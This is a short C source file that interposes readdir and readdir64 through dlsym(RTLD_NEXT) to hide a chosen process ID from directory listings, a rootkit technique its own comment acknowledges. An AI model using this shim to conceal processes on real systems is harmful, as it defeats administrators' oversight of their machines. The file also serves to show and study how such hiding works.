/* SPDX-License-Identifier: Apache-2.0 */
/* A library that hides the process $HIDE_PID from its own program's listings, as rootkits do. */
#include <dirent.h>
#include <dlfcn.h>
#include <stdlib.h>
#include <string.h>

struct dirent *readdir(DIR *directory)
{
	struct dirent *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir");
	const char *pid = getenv("HIDE_PID");
	struct dirent *entry;

	do
		entry = next ? next(directory) : NULL;
	while (entry && pid && !strcmp(entry->d_name, pid));
	return entry;
}

struct dirent64 *readdir64(DIR *directory)
{
	struct dirent64 *(*next)(DIR *) = dlsym(RTLD_NEXT, "readdir64");
	const char *pid = getenv("HIDE_PID");
	struct dirent64 *entry;

	do
		entry = next ? next(directory) : NULL;
	while (entry && pid && !strcmp(entry->d_name, pid));
	return entry;
}
